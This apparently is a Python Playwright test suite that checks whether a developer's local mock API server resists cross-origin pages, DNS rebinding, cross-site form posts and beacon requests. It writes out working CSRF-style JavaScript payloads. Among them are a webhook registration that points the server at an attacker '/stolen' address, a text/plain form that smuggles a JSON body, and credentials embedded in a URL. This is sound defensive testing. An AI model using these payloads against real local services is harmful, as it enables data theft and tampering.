"""Pages of other origins try to read and to change the server of a developer. None of them may do either."""

import pytest

# Returns what a page can read of a response: its body, or nothing.
READ = """
async ([url, options]) => {
  try { return await (await fetch(url, options)).text() } catch (error) { return "" }
}
"""
# Sends a request whose response the page cannot read.
SEND = """
async ([url, options]) => {
  try { await fetch(url, { mode: "no-cors", ...options }) } catch (error) {}
}
"""
FORM = """
([url, type, fields]) => {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: url, enctype: type, target: "_blank" });
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
  document.body.append(form);
  form.submit();
}
"""
EMBED = """
async ([tag, url]) => {
  const element = Object.assign(document.createElement(tag), { src: url });
  document.body.append(element);
  await new Promise(done => { element.onload = element.onerror = done; setTimeout(done, 2000) });
  try { return element.contentDocument ? element.contentDocument.body.innerText : "" } catch (error) { return "" }
}
"""
TOKEN = {"Authorization": "Bearer test-token"}
JSON = {"Content-Type": "application/json"}
TEXT = {"Content-Type": "text/plain"}
RESET = "/_mock/reset?scope=all"


@pytest.fixture(params=["127.0.0.1", "localhost", "attacker.example.com"])
def stranger(request, page, attacker):
    """A page of another origin: another port of this machine, or another host."""
    page.goto(f"http://{request.param}:{attacker.port}/")
    return page


@pytest.fixture
def foreign(page, attacker):
    """A page of another machine."""
    page.goto(f"http://attacker.example.com:{attacker.port}/")
    return page


@pytest.fixture
def rebound(page, victim):
    """A page whose host resolves to the server after the page was loaded: the browser takes the two for one origin."""
    url = f"http://rebound.example.com:{victim.port}/page"
    page.route(url, lambda route: route.fulfill(body="<body></body>", content_type="text/html"))
    page.goto(url)
    return page


@pytest.mark.parametrize("path", ["/_mock/state", "/_mock/requests", "/_mock/workspaces", "/_mock/webhooks", "/_mock/settings"])
def test_the_control_plane_is_not_read(stranger, victim, path):
    assert stranger.evaluate(READ, [victim.url + path, {}]) == ""
    assert stranger.evaluate(READ, [victim.url + path, {"headers": TOKEN}]) == ""


@pytest.mark.parametrize("tag", ["iframe", "script", "img", "object", "embed"])
def test_the_control_plane_is_not_embedded(stranger, victim, tag):
    assert stranger.evaluate(EMBED, [tag, victim.url + "/_mock/state"]) in ("", None)


@pytest.mark.parametrize("headers", [{}, TEXT, JSON])
@pytest.mark.parametrize("mode", ["cors", "no-cors"])
def test_nothing_is_reset(stranger, victim, headers, mode):
    stranger.evaluate(SEND, [victim.url + RESET, {"method": "POST", "mode": mode, "headers": headers}])
    stranger.evaluate(SEND, [victim.url + RESET, {"method": "POST", "mode": mode, "headers": headers, "body": "{}"}])


def test_no_beacon_resets(stranger, victim):
    for body in ("", ", '{}'"):
        with stranger.expect_request_finished():
            stranger.evaluate(f"url => {{ navigator.sendBeacon(url{body}) }}", victim.url + RESET)


@pytest.mark.parametrize("type", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"])
def test_no_form_resets(stranger, victim, type):
    for fields in ({}, {"a": "b"}):
        with stranger.context.expect_page() as opened:
            stranger.evaluate(FORM, [victim.url + RESET, type, fields])
        opened.value.wait_for_load_state()


def test_no_webhook_is_added(stranger, victim, attacker):
    """The server would call an address that the page chooses, and keep the answer for the page."""
    attacker.received.clear()
    body = f'{{"url": "http://127.0.0.1:{attacker.port}/stolen", "topics": ["*"]}}'
    for headers in (TEXT, JSON):
        for mode in ("no-cors", "cors"):
            options = {"method": "POST", "mode": mode, "headers": headers, "body": body}
            stranger.evaluate(SEND, [victim.url + "/_mock/webhooks", options])
    assert not [line for line in attacker.received if line.endswith("/stolen")]


def test_no_fault_and_no_setting(stranger, victim):
    fault = '{"match": {"path": "/tags"}, "respond": {"status": 500}}'
    for method, path, body in [
        ("POST", "/_mock/faults", fault), ("POST", "/_mock/clock/advance", '{"days": 1}'),
        ("POST", "/_mock/generate", '{"contacts": 5}'), ("PATCH", "/_mock/settings", '{"strict": "fail"}'),
        ("PATCH", "/_mock/state", '{"tags": []}'), ("PUT", "/_mock/state", '{"tags": []}'), ("DELETE", "/_mock/workspaces/test-token", None),
    ]:
        for mode in ("no-cors", "cors"):
            options = {"method": method, "mode": mode, "headers": TEXT, "body": body}
            stranger.evaluate(SEND, [victim.url + path, options])


def test_the_api_is_not_used_by_another_machine(foreign, victim):
    assert foreign.evaluate(READ, [victim.url + "/tags", {"headers": TOKEN}]) == ""
    assert foreign.evaluate(READ, [victim.url + "/tags", {}]) == ""
    body = '{"name": "Made by a page"}'
    foreign.evaluate(SEND, [victim.url + "/tags", {"method": "POST", "mode": "cors", "headers": TOKEN | JSON, "body": body}])
    foreign.evaluate(SEND, [victim.url + "/tags", {"method": "POST", "headers": TEXT, "body": body}])


def test_no_form_uses_the_api_with_credentials_in_its_url(foreign, victim):
    url = f"http://test-token:@127.0.0.1:{victim.port}/tags"
    with foreign.context.expect_page() as opened:
        foreign.evaluate(FORM, [url, "text/plain", {'{"name": "Made by a form", "x": "': '"}'}])
    opened.value.wait_for_load_state()


def test_pages_of_this_machine_use_the_api(page, victim, attacker):
    """What must keep working: the front end of an application under test."""
    page.goto(f"http://localhost:{attacker.port}/")
    assert victim.SECRET in page.evaluate(READ, [victim.url + "/tags", {"headers": TOKEN}])


@pytest.mark.parametrize("path", ["/_mock/state", "/_mock/requests", "/tags", "/"])
def test_a_rebound_host_reads_nothing(rebound, victim, path):
    text = rebound.evaluate(READ, [path, {"headers": TOKEN}])
    assert victim.SECRET not in text and ("is not served" in text), text[:200]


def test_a_rebound_host_changes_nothing(rebound, attacker):
    attacker.received.clear()
    hook = f'{{"url": "http://127.0.0.1:{attacker.port}/stolen", "topics": ["*"]}}'
    for path, body in [(RESET, None), ("/_mock/webhooks", hook), ("/tags", '{"name": "Made by a page"}')]:
        text = rebound.evaluate(READ, [path, {"method": "POST", "headers": TOKEN | JSON, "body": body}])
        assert "is not served" in text, text[:200]
    assert not [line for line in attacker.received if line.endswith("/stolen")]
